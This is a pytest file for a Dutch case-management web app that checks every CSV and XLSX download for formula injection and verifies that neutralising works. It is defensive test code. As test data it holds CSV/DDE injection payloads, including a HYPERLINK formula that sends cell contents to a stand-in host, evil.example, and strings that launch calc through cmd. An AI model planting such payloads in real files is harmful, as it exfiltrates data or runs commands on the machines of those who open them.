"""Formula injection (issue #15, finding 1): text from InProces or from the URL never becomes a live formula in a
CSV or XLSX download.

Zaak identificaties and descriptions, team, zaaktype, resultaattype and organisation names carry formulas (as a
hostile or careless InProces user could type them), and so do the free filter values in the URL (as a link in an
e-mail could). Every download of the URL map, in both formats, must then hold no formula cell (XLSX) and no cell
starting with a character a spreadsheet evaluates (CSV); numbers stay numbers. The downloads are found from the URL
map: a new download route without an entry in EXPORTS fails `test_every_download_is_listed`.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from duo_zaak.accounts.auth import create_user
from duo_zaak.config import DEMO_ORGANISATIES
from duo_zaak.db import db
from duo_zaak.models import AuditLog, ResultaatType, Team, Zaak, ZaakType

from ..conftest import PASSWORD, make_app
from ..handbuilt import PEILDATUM

P = PEILDATUM.isoformat()
EVIL = '=HYPERLINK("https://evil.example/?d="&E2,"ZAAK-1")'
# One per character a spreadsheet reads as the start of a formula (or a DDE call) in a CSV cell.
FORMULAS = ("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1")
LIVE = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# endpoint -> (query parameters besides peildatum, free filter parameters that get EVIL, path samples, whether the
# download must contain planted text (a file of counts or dates only holds none), formats chosen by `formaat`)
EXPORTS: dict[str, dict[str, Any]] = {
    "achterstand.export": {"args": {}, "filters": ("team", "zaaktype"), "carries": {"trend": False}},
    "kwaliteit.export": {"args": {}, "filters": (), "carries": False},
    "kwaliteit.export_bevinding": {"args": {}, "filters": (), "path": {"code": "geen_team"}},
    "archief.export": {"args": {}, "filters": ("team", "zaaktype"), "formaat": True},
    "archief.vernietigingslijst": {"args": {}, "filters": ("team", "zaaktype"), "formaat": True},
    "ranglijst.opvolging_export": {"args": {"team": "OE-A"}, "filters": ("team",), "formaat": True},
    "ibt.rapport_xlsx": {"args": {}, "filters": ()},
    "planning.export": {"args": {}, "filters": (), "carries": False},  # figures and Dutch labels, no zaak text
}
# Path samples for the GET routes, to find every download in the URL map.
PATH_SAMPLES = {"code": "geen_team", "taak_id": "1", "nummer": "1", "user_id": "1", "token": "x"}
PATH_BY_ENDPOINT = {"ibt.kpis": {"code": "diemen"}, "ibt.kpi": {"code": "diemen"}, "ibt.norm": {"code": "Z1"}}


def _converters(rule: Any) -> dict[str, Any]:
    return dict(rule._converters)  # noqa: SLF001 - the URL map's own description of the path parameters


def _fill(rule: Any, values: dict[str, str]) -> str:
    path = rule.rule
    for name, value in values.items():
        path = re.sub(rf"<(?:[^<>]+:)?{name}>", lambda _m, v=value: v, path)
    return path


def _variants(rule: Any, samples: dict[str, str]) -> list[dict[str, str]]:
    """Every combination of the any-converters' values (tables, formats), other path parameters from samples."""
    choices = {name: sorted(conv.items) if type(conv).__name__ == "AnyConverter" else [samples[name]]
               for name, conv in _converters(rule).items()}
    return [dict(zip(choices, combo, strict=True)) for combo in itertools.product(*choices.values())]


def _cases() -> list[tuple[str, str, dict[str, str], str]]:
    """(endpoint, path, query, format) per download and format, from the URL map."""
    app = make_app("sqlite://")
    cases = []
    for rule in app.url_map.iter_rules():
        spec = EXPORTS.get(rule.endpoint)
        if spec is None:
            continue
        for values in _variants(rule, {**PATH_SAMPLES, **spec.get("path", {})}):
            path = _fill(rule, values)
            formats = ("csv", "xlsx") if spec.get("formaat") else (values.get("fmt") or "xlsx",)
            for fmt in formats:
                query = {"peildatum": P, **spec["args"], **({"formaat": fmt} if spec.get("formaat") else {})}
                cases.append((rule.endpoint, path, query, fmt))
    return cases


CASES = _cases()


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The hand-built dataset synced once, then formulas planted in every text an export shows."""
    from connectors.inproces import InProcesSettings, connect
    from connectors.mock_inproces.testing import running_mock
    from duo_zaak.figures.snapshots import take_snapshot
    from duo_zaak.settings import archive_settings
    from duo_zaak.sync.run import run_sync

    from ..handbuilt import build_dataset

    organisaties = [{**org, "naam": FORMULAS[i % len(FORMULAS)] + org["naam"]}
                    for i, org in enumerate(DEMO_ORGANISATIES)]
    app = make_app(f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'test.db'}", ORGANISATIES=organisaties)
    with app.app_context():
        db.create_all()
        create_user("admin", PASSWORD, "beheerder", "Bert")
        db.session.commit()
        with running_mock(data=build_dataset()) as mock:
            client = connect(InProcesSettings(zaken_url=mock.zaken_url, catalogi_url=mock.catalogi_url,
                                              client_id=mock.client_id, secret=mock.secret, backoff_factor=0))
            run = run_sync(client, full=True, today=PEILDATUM, settings=archive_settings(),
                           organisaties=app.config["ORGANISATIES"])
            assert run.uitkomst == "geslaagd", run.melding
        for i, zaak in enumerate(db.session.scalars(select(Zaak).order_by(Zaak.id))):
            zaak.identificatie = EVIL.replace("ZAAK-1", zaak.identificatie)
            zaak.omschrijving = FORMULAS[i % len(FORMULAS)]
            zaak.opschorting_reden = FORMULAS[(i + 1) % len(FORMULAS)] if zaak.opgeschort else ""
        for i, team in enumerate(db.session.scalars(select(Team).order_by(Team.id))):
            team.naam = FORMULAS[i % len(FORMULAS)] + team.naam
        for i, zaaktype in enumerate(db.session.scalars(select(ZaakType).order_by(ZaakType.id))):
            zaaktype.omschrijving = FORMULAS[(i + 2) % len(FORMULAS)]
        for resultaattype in db.session.scalars(select(ResultaatType)):
            resultaattype.omschrijving = "=1+1"
        db.session.commit()
        take_snapshot(PEILDATUM)
        db.session.remove()
    client = app.test_client()
    assert client.post("/login", data={"gebruikersnaam": "admin", "wachtwoord": PASSWORD}).status_code == 302
    yield {"app": app, "client": client}
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def _xlsx_problems(body: bytes) -> tuple[list[str], list[str]]:
    """(formula cells found, every text value) of a workbook: read both as openpyxl does and as the raw XML."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                problems.append(f"{name} holds a <f> element")
    texts = []
    workbook = load_workbook(io.BytesIO(body))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return problems, texts


def _csv_problems(body: bytes) -> tuple[list[str], list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text[1:], newline=""), delimiter=";") for cell in row]
    problems = [f"live cell {cell[:40]!r}" for cell in cells if cell.startswith(LIVE) and not NUMBER.fullmatch(cell)]
    return problems, cells


def _carries(endpoint: str, path: str) -> bool:
    carries = EXPORTS[endpoint].get("carries", True)
    if isinstance(carries, dict):
        return next((value for key, value in carries.items() if f"/{key}." in path), True)
    return carries


@pytest.mark.parametrize(("endpoint", "path", "query", "fmt"), CASES,
                         ids=[f"{p}?formaat={f}" if "formaat" in q else p for _, p, q, f in CASES])
def test_no_live_formula_in_any_download(planted, endpoint, path, query, fmt):
    """Both the planted data and hostile filter values from the URL stay text in the file."""
    client = planted["client"]
    hostile = {name: EVIL for name in EXPORTS[endpoint]["filters"]}
    for args in (query, {**query, **hostile}):
        response = client.get(f"{path}?{urlencode(args)}")
        assert response.status_code == 200, (args, response.get_data(as_text=True)[:300])
        assert response.headers["Content-Disposition"].startswith("attachment")
        body = response.get_data()
        if fmt == "xlsx":
            assert response.mimetype == XLSX
            problems, texts = _xlsx_problems(body)
        else:
            assert response.mimetype == "text/csv"
            problems, texts = _csv_problems(body)
        assert not problems, (args, problems)
        if (_carries(endpoint, path) if args is query else hostile and fmt == "xlsx"):
            # the planted text (or the filter, in the XLSX header) is in the file, as text: the test looks at cells
            # that matter
            assert any(re.match(r"'?[-=+@\t\r]", text) or "HYPERLINK" in text for text in texts), (args, texts[:20])


def test_every_download_is_listed(planted):
    """Every GET route of the URL map that answers with a file is in EXPORTS (so it is checked above)."""
    app, client = planted["app"], planted["client"]
    downloads = set()
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static" or "GET" not in rule.methods:
            continue
        spec = EXPORTS.get(rule.endpoint, {})
        samples = {**PATH_SAMPLES, **PATH_BY_ENDPOINT.get(rule.endpoint, {}), **spec.get("path", {})}
        path = _fill(rule, _variants(rule, samples)[0])
        args = {"peildatum": P, **spec.get("args", {}), **({"formaat": "csv"} if spec.get("formaat") else {})}
        response = client.get(f"{path}?{urlencode(args)}")
        if response.headers.get("Content-Disposition", "").startswith("attachment"):
            downloads.add(rule.endpoint)
    assert downloads == set(EXPORTS)


def test_neutralise_keeps_numbers_and_harmless_text():
    from duo_zaak.figures.exports import neutralise

    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("\r=1+1") == "'\r=1+1"
    assert neutralise("ZAAK-2026-0000000023") == "ZAAK-2026-0000000023"
    assert neutralise(-3) == -3  # a number is no formula
    assert neutralise(None) is None


def test_downloads_are_audited(planted):
    """Finding 6: who downloaded which list, with how many rows (the planted audit rows are read back)."""
    app, client = planted["app"], planted["client"]
    response = client.get(f"/archief/export?peildatum={P}&formaat=csv")
    rows = len(_csv_problems(response.get_data())[1]) // 10 - 1  # 10 columns; minus the header row
    with app.app_context():
        entry = db.session.scalars(select(AuditLog).order_by(AuditLog.id.desc())).first()
    assert (entry.actor, entry.actie, entry.resultaat) == ("admin", "downloaden", "ok")
    assert entry.object.startswith("archieftaken_") and entry.object.endswith(".csv")
    assert f"{rows} rijen" in entry.details


def test_cli_report_csv_has_no_live_formula(planted):
    """`flask report ... --format csv` writes team names from InProces: inert there too."""
    result = planted["app"].test_cli_runner().invoke(args=["report", "backlog", "--peildatum", P, "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.output)) for cell in row]
    assert any(cell.startswith("'") for cell in cells)  # the planted team names are there, neutralised
    assert not [cell for cell in cells if cell.startswith(LIVE) and not NUMBER.fullmatch(cell)]
